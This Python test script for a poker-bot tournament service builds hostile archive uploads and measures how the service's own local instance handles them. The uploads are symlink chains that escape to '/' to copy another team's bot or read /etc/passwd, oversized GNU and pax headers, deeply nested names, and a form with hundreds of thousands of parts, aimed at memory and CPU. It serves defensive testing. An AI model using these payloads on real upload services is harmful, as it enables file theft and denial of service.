#!/usr/bin/env python3
"""Hostile uploads, built as a team would send them to ``POST /api/submissions``, and the
figures a test reads off the service while one is answered.

The archives (each a ``.tar.gz`` body):

``clone(victim)``      ``bot.py`` is a link into another team's version folder (``victim``,
                       its absolute path, as the tournament page showed it) through links
                       that look inside by their text and are not: ``d1/d2/d3/s -> ../..``,
                       ``x -> d1/d2/d3/s/../../../..`` (:func:`climb`, deeper: to ``/``)
``lexical_escape()``   that ``x`` alone, beside a real ``bot.py``
``passwd()``           a real ``bot.py`` and ``passwd``, a link to ``/etc/passwd`` made the
                       same way (up to ``/``, then ``etc/passwd``)
``long_header(size)``  a GNU long-name header (or a pax header) of ``size`` bytes: a few MB
                       of gzip that a reader holds whole in memory
``deep_names()``       40 entries named ``a/`` x 50,000: cheap to send, quadratic to check
                       one folder level at a time

and ``many_parts(n)``, a browser's form of ``n`` tiny parts before the archive's.

:class:`Memory` reads a process's resident memory and its peak (``/proc/PID/status``), and
:func:`post` sends a body and times the answer, reading it in blocks (a 1 GiB answer is
counted, not kept).

Run as a script, it starts ``pokerbots serve`` (``--max-upload 50M``, the default), admits a
victim team's bot, plays every attack and prints a line of figures for each::

    python tests/programs/attacks/uploads.py [--quick]
"""

from __future__ import annotations

import http.client
import io
import tarfile
import threading
import time
import zlib
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

#: Levels the climbing links go up (:func:`climb`): from any version folder to ``/``.
LEVELS = 24


def member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "",
           mode: int = 0o755) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, mode
    return info


def tgz(*members: tuple[tarfile.TarInfo, bytes | None], fmt: int = tarfile.GNU_FORMAT
        ) -> bytes:
    """A ``.tar.gz`` of ``(member, content)`` (content None: a folder or a link)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=fmt) as archive:
        for info, content in members:
            if content is not None:
                info.size = len(content)
            archive.addfile(info, None if content is None else io.BytesIO(content))
    return buffer.getvalue()


#: A bot that plays (the bundled call bot).
BOT = (Path(__file__).resolve().parents[3] / "bots" / "call_bot.py").read_bytes()


def climb(levels: int, name: str = "x") -> list[tuple[tarfile.TarInfo, None]]:
    """Two links: ``name`` leads ``levels`` folders above the bot's folder, while its text,
    read as a path, stays in it. ``d1/.../dn/s -> ../..`` (n - 1 times ``..``) is ``d1``,
    which is inside; ``name -> d1/.../dn/s/..`` (n + 1 times ``..``) reads as ``.``, and the
    file system, following ``s`` to ``d1`` first, climbs n folders above the top."""
    folders = [f"d{i}" for i in range(1, levels + 1)]
    chain = "/".join(folders)
    return [(member(f"{chain}/s", tarfile.SYMTYPE, "/".join([".."] * (levels - 1))), None),
            (member(name, tarfile.SYMTYPE, f"{chain}/s/" + "/".join([".."] * (levels + 1))),
             None)]


def clone(victim: str) -> bytes:
    """``bot.py`` -> another team's version folder's ``bot.py`` (``victim``: the folder's
    absolute path), through the climbing link: it leads to ``/`` wherever the upload is
    unpacked, so the link resolves both where the service reads it and where it plays."""
    return tgz(*climb(LEVELS), (member("bot.py", tarfile.SYMTYPE,
                                       f"x/{victim.lstrip('/')}/bot.py"), None),
               (member("VERSION"), b"clone\n"))


def lexical_escape() -> bytes:
    """The climbing link alone, beside a bot that plays."""
    return tgz((member("bot.py"), BOT), *climb(LEVELS), (member("VERSION"), b"escape\n"))


def passwd() -> bytes:
    """A bot that plays, and ``passwd`` -> ``/etc/passwd`` (up to the root, then down)."""
    return tgz((member("bot.py"), BOT), *climb(LEVELS),
               (member("passwd", tarfile.SYMTYPE, "x/etc/passwd"), None),
               (member("VERSION"), b"passwd\n"))


def long_header(size: int, kind: bytes = tarfile.GNUTYPE_LONGNAME, level: int = 9) -> bytes:
    """A ``.tar.gz`` whose first header is a GNU long name (``kind`` ``L``; ``K`` a long link
    target, ``x`` a pax header) of ``size`` bytes of ``a``, then ``bot.py``: about
    ``size / 1000`` bytes of gzip. Streamed through zlib: the archive is never whole in
    memory uncompressed."""
    out = io.BytesIO()
    gzip = zlib.compressobj(level, zlib.DEFLATED, 31)
    head = member("././@LongLink", kind, mode=0o644)
    head.size = size
    out.write(gzip.compress(head.tobuf(tarfile.USTAR_FORMAT)))
    block = b"a" * (1 << 20)
    if kind == tarfile.XHDTYPE:  # one record: "SIZE path=aaa...\n"
        digits = len(str(size))
        record = f"{size} path=".encode()
        if len(record) + 1 > size or len(str(size)) != digits:
            raise ValueError(f"a pax header of {size} bytes cannot hold a record")
        out.write(gzip.compress(record))
        left = size - len(record) - 1
    else:
        left = size - 1
    while left > 0:
        out.write(gzip.compress(block[:min(left, len(block))]))
        left -= min(left, len(block))
    out.write(gzip.compress(b"\n" if kind == tarfile.XHDTYPE else b"\0"))
    pad = -size % tarfile.BLOCKSIZE
    out.write(gzip.compress(b"\0" * pad))
    bot = member("bot.py")
    bot.size = len(BOT)
    out.write(gzip.compress(bot.tobuf(tarfile.USTAR_FORMAT) + BOT
                            + b"\0" * (-len(BOT) % tarfile.BLOCKSIZE)
                            + b"\0" * (2 * tarfile.BLOCKSIZE)))
    out.write(gzip.flush())
    return out.getvalue()


def deep_names(count: int = 40, depth: int = 50_000) -> bytes:
    """``count`` files, each ``a/`` x ``depth`` then a name of its own (GNU long names)."""
    prefix = "a/" * depth
    return tgz((member("bot.py"), BOT),
               *[(member(f"{prefix}f{i}"), b"") for i in range(count)])


def many_parts(parts: int, archive: bytes = b"") -> tuple[bytes, str]:
    """A ``multipart/form-data`` body of ``parts`` tiny fields, then ``archive`` in the file
    field ``archive``; and its content type."""
    boundary = "b0undary"
    tiny = f"--{boundary}\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n".encode()
    body = tiny * parts + (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"archive\";"
        f" filename=\"bot.tar.gz\"\r\nContent-Type: application/gzip\r\n\r\n").encode()
    body += archive + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


class Memory:
    """A process's resident memory (``VmRSS``) and its peak (``VmHWM``), in bytes."""

    def __init__(self, pid: int) -> None:
        self.pid = pid

    def _field(self, name: str) -> int:
        with open(f"/proc/{self.pid}/status") as status:
            for line in status:
                if line.startswith(name + ":"):
                    return int(line.split()[1]) * 1024
        raise LookupError(name)

    def rss(self) -> int:
        return self._field("VmRSS")

    def peak(self) -> int:
        return self._field("VmHWM")

    def reset_peak(self) -> bool:
        """Start the peak again from the memory now (Linux: ``clear_refs`` 5); False where
        this process may not (then :meth:`peak` is the peak since the process started)."""
        try:
            with open(f"/proc/{self.pid}/clear_refs", "w") as refs:
                refs.write("5")
            return True
        except OSError:
            return False

    @contextmanager
    def watching(self):
        """``with memory.watching() as seen:`` the memory before the block
        (``seen["before"]``) and its peak while it ran (``seen["peak"]``): ``VmHWM`` started
        again where this process may, and ``VmRSS`` read every 5 ms all the same."""
        reset = self.reset_peak()
        seen = {"before": self.rss(), "peak": 0}
        done = threading.Event()

        def sample() -> None:
            while not done.wait(0.005):
                seen["peak"] = max(seen["peak"], self.rss())

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        try:
            yield seen
        finally:
            done.set()
            sampler.join()
            seen["peak"] = max(seen["peak"], seen["before"], self.rss(),
                               self.peak() if reset else 0)


@dataclass(frozen=True)
class Answer:
    status: int
    size: int  # bytes of the answer's body
    head: bytes  # its first 400 bytes
    seconds: float  # from the first byte sent to the last byte read
    headers: dict


def post(port: int, body: bytes, token: str | None, path: str = "/api/submissions",
         headers: dict | None = None, timeout: float = 600.0) -> Answer:
    """POST ``body``; the answer, read in blocks and counted."""
    sent = dict(headers or {})
    if token is not None:
        sent["Authorization"] = f"Bearer {token}"
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    start = time.monotonic()
    try:
        try:
            connection.request("POST", path, body=body, headers=sent)
        except (BrokenPipeError, ConnectionResetError):
            pass  # answered before the whole body was read
        answer = connection.getresponse()
        head, size = b"", 0
        while block := answer.read(1 << 20):
            if len(head) < 400:
                head += block[:400 - len(head)]
            size += len(block)
        found = {k.lower(): v for k, v in answer.getheaders()}
    finally:
        connection.close()
    return Answer(answer.status, size, head, time.monotonic() - start, found)


@dataclass(frozen=True)
class Figures:
    """One attack played: its answer, and the service's memory before and at its peak."""

    answer: Answer
    before: int
    peak: int

    @property
    def grown(self) -> int:
        return self.peak - self.before

    def line(self, what: str, sent: int) -> str:
        return (f"{what:<34} sent {sent:>11,} B  -> {self.answer.status}"
                f" {self.answer.size:>13,} B in {self.answer.seconds:7.2f} s;"
                f" memory {self.before / 2**20:7.1f} MiB, peak +{self.grown / 2**20:8.1f} MiB")


def play(port: int, pid: int, body: bytes, token: str, headers: dict | None = None) -> Figures:
    """Send one upload and measure it: the answer, the service's memory and its peak."""
    with Memory(pid).watching() as seen:
        answer = post(port, body, token, headers=headers)
    return Figures(answer, seen["before"], seen["peak"])


def main() -> None:  # pragma: no cover - a script, for the figures
    import argparse
    import shutil
    import sys
    import tempfile

    here = Path(__file__).resolve().parents[2]  # tests/
    sys.path[:0] = [str(here / "support"), str(here / "programs")]
    from pokerbots.server.service.data.store import open_store
    from pokerbots.server.service.data.teams import add_team

    from attacks.wrong_tokens import cpu_seconds
    from service_site import BOTS, Served

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true",
                        help="smaller attacks (a 64 MiB header, 20,000 parts)")
    args = parser.parse_args()
    header = (64 << 20) if args.quick else (1 << 30)
    parts = 20_000 if args.quick else 200_000
    with tempfile.TemporaryDirectory(prefix="pokerbots-attacks-") as work:
        work = Path(work)
        (work / "submissions").mkdir()
        data = work / "data"
        attacks = ["clone", "lexical escape", "/etc/passwd link", "GNU long name",
                   "pax header", "a/ x 50,000", "many parts"]
        store = open_store(data)
        try:
            tokens = {name: add_team(store, name)
                      for name in ["beta", *(f"t{i}" for i in range(len(attacks)))]}
        finally:
            store.close()
        with Served(work / "submissions", data, "--hands", "20", "--every", "1h",
                    "--upload-interval", "1s") as served:
            victim = work / "victim"
            victim.mkdir()
            shutil.copy(BOTS / "call_bot.py", victim / "bot.py")
            from pokerbots.server.service.uploads.archives import pack
            answer = post(served.port, pack(victim), tokens["beta"])
            assert answer.status == 201, answer
            served.wait("beta admitted", lambda: served.bots().get("beta", {}).get("status")
                        == "admitted")
            (folder,) = (data / "bots" / "beta").iterdir()
            victim_path = str(folder)
            bodies = [clone(victim_path), lexical_escape(), passwd(), long_header(header),
                      long_header(header, tarfile.XHDTYPE), deep_names()]
            form, kind = many_parts(parts, lexical_escape())
            print(f"service pid {served.process.pid}, victim {victim_path}")
            for number, (what, body) in enumerate(zip(attacks, [*bodies, form])):
                headers = {"Content-Type": kind} if what == "many parts" else None
                cpu = cpu_seconds(served.process.pid)
                figures = play(served.port, served.process.pid, body, tokens[f"t{number}"],
                               headers)
                cpu = cpu_seconds(served.process.pid) - cpu
                print(figures.line(what, len(body)) + f"; CPU {cpu:.2f} s", flush=True)
                print(f"    {figures.answer.head[:160]!r}", flush=True)
                if figures.answer.status in (201, 303):
                    name = f"t{number}"
                    found = served.wait(f"{name}'s verdict", lambda n=name: served.bots().get(
                        n, {}).get("status") not in (None, "testing") and served.bots()[n])
                    print(f"    verdict: {found['status']} {found.get('reason') or ''}")
            served.stop()


if __name__ == "__main__":
    main()
